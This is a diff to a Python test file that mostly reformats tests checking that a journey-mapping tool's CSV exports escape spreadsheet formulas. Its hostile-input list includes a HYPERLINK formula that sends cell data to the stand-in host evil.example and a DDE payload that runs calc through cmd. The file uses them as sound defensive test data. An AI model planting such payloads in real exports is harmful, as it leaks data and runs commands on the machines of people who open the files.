@@ -14,8 +14,15 @@ from journey import csvsafe, exchange, formulas, kpis, samples
 
 from .test_cli import cli
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-2+3", "@SUM(A1)",
-           "\tstarts with a tab", "\rstarts with a CR", "=cmd|'/c calc'!A1"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tstarts with a tab",
+    "\rstarts with a CR",
+    "=cmd|'/c calc'!A1",
+]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -42,10 +49,18 @@ def hostile_journey_id(store):
     doc = samples.load_sample("car-buying")
     journey = doc["journeys"][0]
     journey["stages"][0]["moments"].append(
-        {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"})
+        {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"}
+    )
     journey["stages"][1]["label"] = "-2+3"
-    journey["metrics"].append({"key": "=1+1", "name": "-2+3", "side": "buyer", "unit": "@A1",
-                               "values": [{"date": "2026-01-01", "value": -4.5}]})
+    journey["metrics"].append(
+        {
+            "key": "=1+1",
+            "name": "-2+3",
+            "side": "buyer",
+            "unit": "@A1",
+            "values": [{"date": "2026-01-01", "value": -4.5}],
+        }
+    )
     journey["scenarios"].append({"name": HOSTILE[-1], "levers": {"margin": 0.5}})
     return store.import_document(doc)["journeys"][0]
 
@@ -55,9 +70,13 @@ def cells(text: str) -> list[list[str]]:
 
 
 def formula_cells(text: str) -> list[str]:
-    return [c for row in cells(text) for c in row
-            if c.startswith(csvsafe.FORMULA_STARTS) and c.lstrip("+-").replace(".", "", 1)
-            .replace("e-", "", 1).isdigit() is False]
+    return [
+        c
+        for row in cells(text)
+        for c in row
+        if c.startswith(csvsafe.FORMULA_STARTS)
+        and c.lstrip("+-").replace(".", "", 1).replace("e-", "", 1).isdigit() is False
+    ]
 
 
 def test_every_csv_export_escapes_the_hostile_cells(store, hostile_journey_id):
@@ -65,15 +84,19 @@ def test_every_csv_export_escapes_the_hostile_cells(store, hostile_journey_id):
     baseline = formulas.levers_from_journey(journey)
     scenarios = {s.name: formulas.apply(baseline, s.levers) for s in journey.scenarios}
     exports = {
-        "stages": exchange.stages_csv(journey), "moments": exchange.moments_csv(journey),
-        "metrics": exchange.metrics_csv(journey), "kpi values": kpis.kpi_values_csv(journey),
+        "stages": exchange.stages_csv(journey),
+        "moments": exchange.moments_csv(journey),
+        "metrics": exchange.metrics_csv(journey),
+        "kpi values": kpis.kpi_values_csv(journey),
         "scenario comparison": kpis.scenarios_csv(formulas.compare(baseline, scenarios)),
     }
     assert {name: formula_cells(text) for name, text in exports.items()} == {
-        name: [] for name in exports}
+        name: [] for name in exports
+    }
     moments = cells(exports["moments"])
     assert ["awareness", "friction", "'" + HOSTILE[0]] == moments[-1][:3] or any(
-        row[2] == "'" + HOSTILE[0] for row in moments)
+        row[2] == "'" + HOSTILE[0] for row in moments
+    )
     metric_row = cells(exports["metrics"])[-1]
     assert metric_row[:4] == ["'=1+1", "'-2+3", "buyer", "'@A1"]
     assert metric_row[-1] == "-4.5"  # a negative number stays a number
@@ -86,7 +109,8 @@ def test_the_command_line_csv_export_escapes_formula_cells(tmp_path):
     cli("init", "--seed", db=db)
     doc = samples.load_sample("car-buying")
     doc["journeys"][0]["stages"][0]["moments"].append(
-        {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"})
+        {"kind": "friction", "title": HOSTILE[0], "action": "+1+1", "owner": "@SUM(A1)"}
+    )
     path = tmp_path / "formula-cells.json"
     path.write_text(exchange.dumps(doc))
     assert cli("import", str(path), db=db).returncode == 0
